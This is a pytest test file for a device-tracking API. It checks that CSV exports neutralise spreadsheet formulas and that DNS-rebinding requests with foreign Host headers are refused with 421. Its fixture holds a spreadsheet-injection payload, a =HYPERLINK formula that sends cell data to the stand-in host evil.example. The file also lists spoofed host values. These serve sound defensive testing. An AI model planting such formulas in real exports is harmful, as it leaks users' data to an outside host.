"""The API against a hostile browser or spreadsheet, in-process (no broker, no socket)."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from collections.abc import Iterator

import httpx
import pytest
from fastapi import FastAPI

from api.app import create_app
from api.config import ApiSettings
from api.context import ApiContext
from api.tokens import TokenFile, add_token
from geofence.config import GeofenceSettings
from tracks.store import Store

T0 = dt.datetime(2025, 11, 20, 8, 0, tzinfo=dt.UTC)
EVIL_GRID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
WINDOW = {"start": "2025-11-20T07:00:00+00:00", "end": "2025-11-20T09:00:00+00:00"}


def request(
    app: FastAPI, path: str, host: str = "127.0.0.1:8080", token: str = "", **params: str
) -> httpx.Response:
    """GET ``path`` as a browser that resolved ``host`` to us would send it."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}

    async def get() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url=f"http://{host}") as client:
            return await client.get(path, params=params, headers=headers)

    return asyncio.run(get())


@pytest.fixture
def store(tmp_path) -> Iterator[Store]:
    """Device ``-d1`` has fixes in a grid named as a formula."""
    with Store(tmp_path / "gp.db") as store:
        for i in range(3):
            store.cursor().execute(
                "INSERT INTO pings (device_id, ts, lat, lon, acc, flags, grid_id, received_at) "
                "VALUES (?, ?, ?, ?, ?, 0, ?, ?)",
                ["-d1", T0 + dt.timedelta(seconds=10 * i), -33.5, -70.6, -1.0, EVIL_GRID, T0],
            )
        yield store


def make_app(store: Store, tokens: TokenFile | None = None) -> FastAPI:
    context = ApiContext(
        store=store,
        grid_set=None,
        live=None,
        geofence=GeofenceSettings(),
        settings=ApiSettings(),
        tokens=tokens,
    )
    return create_app(context)


@pytest.fixture
def app(store) -> FastAPI:
    """No tokens: the loopback mode."""
    return make_app(store)


def test_track_csv_neutralises_formulas_and_keeps_numbers(app):
    response = request(app, "/api/v1/devices/-d1/track", format="csv", **WINDOW)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 3
    for row in rows:
        assert row["grid_id"] == "'" + EVIL_GRID
        assert row["device_id"] == "'-d1"
        assert (row["lat"], row["lon"], row["acc"]) == ("-33.5", "-70.6", "-1.0")  # numbers


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "127.0.0.1:8080", "localhost", "LOCALHOST:1", "[::1]", "[::1]:8080"]
)
def test_without_tokens_loopback_hosts_are_answered(app, host):
    assert request(app, "/api/v1/devices", host=host).status_code == 200
    assert request(app, "/", host=host).status_code == 200


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8080",
        "127.0.0.1.evil.example",
        "localhost.evil.example:8080",
        "127.0.0.1:8080@evil.example",
        "10.0.0.5:8080",
    ],
)
def test_without_tokens_a_foreign_host_gets_421_in_the_error_shape(app, host):
    """DNS rebinding: a page of evil.example whose name now resolves to 127.0.0.1."""
    for path in ("/api/v1/devices", "/api/v1/devices/-d1/track", "/"):
        response = request(app, path, host=host, **WINDOW)
        assert response.status_code == 421, (path, host, response.text)
        error = response.json()["error"]
        assert (error["status"], error["code"]) == (421, "misdirected_request")
        assert "-d1" not in response.text


def test_with_tokens_any_host_is_answered_with_a_token(store, tmp_path):
    """Behind a reverse proxy the API has a real name; the token is the guard there."""
    _, token = add_token(tmp_path / "tokens.jsonl", "admin", [], "ops")
    app = make_app(store, TokenFile(tmp_path / "tokens.jsonl"))
    assert (
        request(app, "/api/v1/devices", host="gridpatrol.example", token=token).status_code == 200
    )
    assert request(app, "/api/v1/devices", host="gridpatrol.example").status_code == 401
